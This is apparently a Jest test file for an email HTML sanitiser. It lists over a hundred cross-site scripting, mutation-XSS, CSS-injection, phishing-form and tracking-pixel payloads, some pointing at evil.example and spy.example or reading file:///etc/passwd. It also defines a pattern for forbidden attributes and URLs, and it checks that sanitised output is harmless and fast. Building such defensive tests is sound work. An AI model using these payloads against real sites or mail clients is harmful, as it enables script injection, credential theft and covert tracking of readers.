import { describe, expect, it } from '@jest/globals';
import { parseFragment, type DefaultTreeAdapterTypes } from 'parse5';
import { sanitiseHtml } from './sanitise-html.ts';

const BYTES_MAX = 262_144;
const MS_MAX = 1_000;

const sanitise = (html: string): string => sanitiseHtml(html, BYTES_MAX).html;

/** Vectors of the public lists of cross-site scripting, and of mail that loads or covers something. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script>',
  '<script\n>alert(1)</script\n>',
  '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"',
  '<img/src=x/onerror=alert(1)>',
  '<img src=`x` onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src=x:x onerror=alert(1)//',
  '<img src="javascript:alert(1)">',
  '<img dynsrc="javascript:alert(1)" lowsrc="http://evil.example/x">',
  '<img src="https://spy.example/pixel.gif" srcset="https://spy.example/a 1x, b 2x" sizes=100vw>',
  '<img src="//spy.example/pixel.gif">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="file:///etc/passwd">',
  '<img data-src="javascript:alert(1)" src="cid:logo">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="blob:https://x.example/1">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/api/v1/campaigns/">x</a>',
  '<a href="https://ok.example" ping="https://spy.example" target=_top download>x</a>',
  '<a href="https://ok.example\u0000javascript:alert(1)">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></foreignObject></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>">',
  '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
  '<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select><option><img src=x onerror=alert(1)></option></select>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<textarea></textarea/><img src=x onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe><img src=x onerror=alert(1)>',
  '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
  '<object data="javascript:alert(1)"><param name=x></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<applet code=x></applet>',
  '<audio src=x onerror=alert(1) autoplay></audio>',
  '<video poster="https://spy.example/x"><source src=x onerror=alert(1)></video>',
  '<picture><source srcset="https://spy.example/x"><img src="https://spy.example/y"></picture>',
  '<base href="https://evil.example/"><a href="x">x</a>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import url(https://evil.example/x.css);</style>',
  '<style>body{background:url(https://spy.example/x)}</style>',
  '<div style="background:url(https://spy.example/x)">x</div>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="background-color:red;background-image:\\75\\72\\6c(https://spy.example)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="width:exp/**/ression(alert(1))">x</div>',
  '<div style="-moz-binding:url(x.xml#y);behavior:url(x.htc)">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">x</div>',
  '<div style="margin:-100px 0 0 -100px;transform:scale(9)">x</div>',
  '<div style="color:red;@import \'https://evil.example/x.css\'">x</div>',
  '<div style="font-family:\'x;background:url(https://spy.example)">x</div>',
  '<div style="content:url(https://spy.example);list-style:url(https://spy.example)">x</div>',
  '<div style="color:var(--x);width:calc(1px);background-color:image-set(\'x\')">x</div>',
  '<table background="https://spy.example/x"><tr><td background="https://spy.example/y">x</table>',
  '<body background="https://spy.example/x" onload=alert(1)>x</body>',
  '<bgsound src="https://spy.example/x">',
  '<marquee onstart=alert(1)>x</marquee>',
  '<details open ontoggle=alert(1)>x</details>',
  '<b onmouseover=alert(1) id=x class=y name=z>x</b>',
  '<div contenteditable autofocus tabindex=1 onfocus=alert(1)>x</div>',
  '<!--[if mso]><script>alert(1)</script><![endif]-->x',
  '<![if !mso]><script>alert(1)</script><![endif]>x',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><?import namespace="t" implementation="#x"><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noembed><img src=x onerror=alert(1)></noembed><noframes><img src=x onerror=alert(1)></noframes>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<title><img src=x onerror=alert(1)></title>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<p title="&quot; onclick=alert(1) x=&quot;">x</p>',
  "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
  '<p align="x" \u0000onclick=alert(1)>x</p>',
  '<p on\u0000click=alert(1)>x</p>',
  '<p/onclick=alert(1)>x</p>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<dialog open>x</dialog><slot></slot><portal src=x></portal>',
  '<v:rect style="behavior:url(#default#VML)" src=x></v:rect>',
  '<o:p></o:p><w:anchorlock/>',
  '<a href="https://ok.example"><a href="javascript:alert(1)">x</a></a>',
  '<table><a href=javascript:alert(1)><tr><td>x',
] as const;

const ELEMENTS = new Set(
  'a abbr address article aside b bdi bdo big blockquote br caption center cite code col colgroup dd del dfn div dl dt em figcaption figure font footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark nav ol p pre q s samp section small span strike strong sub sup table tbody td tfoot th thead time tr tt u ul var wbr'.split(
    ' ',
  ),
);
const FORBIDDEN =
  /^(?:on|srcset$|background$|action$|formaction$|poster$|data$|id$|class$|name$|target$|ping$|xlink)/;

type Node = DefaultTreeAdapterTypes.ChildNode;

/** Every problem of the output that a parser finds which reads HTML as browsers do. */
function problemsOf(html: string): readonly string[] {
  return parseFragment(html).childNodes.flatMap(problemsOfNode);
}

function problemsOfNode(node: Node): readonly string[] {
  if (!('tagName' in node)) return node.nodeName === '#text' ? [] : [node.nodeName];
  const { tagName, attrs, childNodes } = node;
  return [
    ...(ELEMENTS.has(tagName) ? [] : [`<${tagName}>`]),
    ...attrs.flatMap(({ name, value }) => (isHarmless(name, value) ? [] : [`${tagName} ${name}=${value}`])),
    ...childNodes.flatMap(problemsOfNode),
  ];
}

function isHarmless(name: string, value: string): boolean {
  switch (name) {
    case 'href':
      return /^(?:https?:\/\/|mailto:)[^\s\p{Cc}]+$/iu.test(value);
    case 'src':
      return /^(?:cid:|data:image\/(?!svg))/i.test(value);
    case 'data-src':
      return !/^(?!https?:)[^/]*:/i.test(value);
    case 'style':
      return !/[\\(@]|url|expression|position|-\d/i.test(value.replaceAll(/rgba?\([\d, .%]+\)/g, ''));
    default:
      return !FORBIDDEN.test(name);
  }
}

describe('the sanitised HTML of a hostile message', () => {
  it.each(HOSTILE)('has nothing that runs or loads: %j', (html) => {
    const once = sanitise(html);
    expect(problemsOf(once)).toEqual([]);
    expect(problemsOf(`<div>${once}</div>`)).toEqual([]);
    expect(sanitise(once)).toBe(once);
  });

  it('finds problems in what is not sanitised', () => {
    expect(HOSTILE.filter((html) => problemsOf(html).length === 0).length).toBeLessThan(HOSTILE.length / 10);
  });

  it('keeps texts, links, own images, tables and harmless styles', () => {
    const html =
      '<p style="color:#333;margin:0 0 1em;font-family:Arial, \'Segoe UI\', sans-serif">Hi <b>you</b>, <a href="https://a.example/?x=1&amp;y=2">see</a> <a href="mailto:a@b.example">mail</a></p><table width="600" cellpadding="0"><tbody><tr><td align="center" bgcolor="#fff">1 &lt; 2</td></tr></tbody></table><img src="cid:logo@x" alt="Logo" /><img src="data:image/png;base64,iVBORw0=" />';
    expect(sanitise(html)).toBe(html);
  });

  it('has the addresses of remote images in data-src', () => {
    const remote = '<img src="https://a.example/x.png?a=1&b=2" width=1><img src="image001.png">';
    expect(sanitise(remote)).toBe(
      '<img data-src="https://a.example/x.png?a=1&amp;b=2" width="1" /><img data-src="image001.png" />',
    );
  });
});

const repeated = (part: string): string => part.repeat(Math.floor(BYTES_MAX / part.length));

describe('the time of a hostile message', () => {
  it.each([
    ...[
      '<b>',
      '<div>',
      '<p><td>',
      '<iframe>',
      '<svg>',
      '<noscript>',
      '<b></i>',
      '<table><tr><td>',
      '<li>',
      '<select><option>',
    ],
    ...[
      '<!--',
      '<![if mso]>',
      '<b style="',
      '<a href="',
      '<title>',
      '<textarea>',
      '&',
      '<',
      '&lt;',
      '</b>',
      '<b a=1 b=2 c=3>',
    ],
    ...[
      '<p style="color:red;margin:0 1px">x</p>',
      '<img src="data:image/png;base64,AAAA">',
      '<a href="http://x">y</a>',
    ],
    `<p style="font-family:${'a'.repeat(299)}!">`,
    `<p style="width:${'1a'.repeat(149)}!">`,
  ])('is less than a second, and nesting is at most 200: %j', (part) => {
    const html = repeated(part);
    const startedAt = performance.now();
    const { html: clean } = sanitiseHtml(html, BYTES_MAX);
    expect(performance.now() - startedAt).toBeLessThan(MS_MAX);
    expect(Buffer.byteLength(clean)).toBeLessThanOrEqual(BYTES_MAX);
    let open = 0;
    let deepest = 0;
    for (const [tag] of clean.matchAll(/<\/?[a-z][^>]*>/g)) {
      open += tag.startsWith('</') ? -1 : Number(!tag.endsWith('/>'));
      deepest = Math.max(deepest, open);
    }
    expect(deepest).toBeLessThanOrEqual(200);
  });
});
